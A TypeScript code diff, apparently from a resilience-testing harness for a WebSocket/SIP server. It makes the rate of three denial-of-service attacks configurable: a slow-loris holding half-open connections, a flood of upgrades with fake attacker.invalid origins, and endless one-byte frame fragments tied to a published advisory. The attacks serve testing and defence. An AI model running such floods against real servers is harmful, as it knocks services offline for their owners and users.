@@ -9,9 +9,9 @@ import type { Attack } from './targets.ts';
 const HALF_REQUESTS = 300;
 
 /** Slow-loris: connections that say a header line now and then, and never the empty one. */
-export const halfRequests: Attack = async ({ url }, from, ms) => {
+export const halfRequests: Attack = async ({ url }, from, ms, { perSecond = 100 } = {}) => {
   const sockets = new Array<Socket | undefined>(HALF_REQUESTS).fill(undefined);
-  const dealt = await pace(100, ms, index => {
+  const dealt = await pace(perSecond, ms, index => {
     const place = index % HALF_REQUESTS;
     const socket = sockets[place];
     if (socket === undefined || socket.destroyed) {
@@ -23,8 +23,8 @@ export const halfRequests: Attack = async ({ url }, from, ms) => {
   return dealt;
 };
 
-export const hopefulUpgrades: Attack = async ({ url }, from, ms) =>
-  await pace(100, ms, index => {
+export const hopefulUpgrades: Attack = async ({ url }, from, ms, { perSecond = 100 } = {}) =>
+  await pace(perSecond, ms, index => {
     void openPage(url, { from, origin: `https://${index}.attacker.invalid` }).then(page => {
       page.on('error', () => {});
       page.on('open', () => page.terminate());
@@ -32,12 +32,12 @@ export const hopefulUpgrades: Attack = async ({ url }, from, ms) =>
   });
 
 /** One byte a fragment, never the last one (GHSA-96hv-2xvq-fx4p). */
-export const tinyFragments: Attack = async ({ url, uri }, from, ms) => {
+export const tinyFragments: Attack = async ({ url, uri }, from, ms, { perSecond = 1_000 } = {}) => {
   const mask = randomBytes(4);
   const fragment = (first: boolean) =>
     Buffer.concat([Buffer.from([first ? 0x01 : 0x00, 0x81]), mask, Buffer.from([0x41 ^ mask[0]!])]);
   const sockets = new Array<Socket | 'coming' | undefined>(10).fill(undefined);
-  const dealt = await pace(1_000, ms, index => {
+  const dealt = await pace(perSecond, ms, index => {
     const place = index % sockets.length;
     const socket = sockets[place];
     if (socket === 'coming') return;
@@ -62,7 +62,7 @@ export const tinyFragments: Attack = async ({ url, uri }, from, ms) => {
   return dealt;
 };
 
-function open(url: string, from: string): Socket {
+export function open(url: string, from: string): Socket {
   const { hostname, port } = new URL(url);
   const socket = connect({ host: hostname, port: Number(port), localAddress: from });
   socket.on('error', () => {});
@@ -70,7 +70,7 @@ function open(url: string, from: string): Socket {
   return socket;
 }
 
-function upgrade(url: string, token: string): string {
+export function upgrade(url: string, token: string): string {
   return [
     'GET /sip HTTP/1.1',
     `Host: ${new URL(url).host}`,
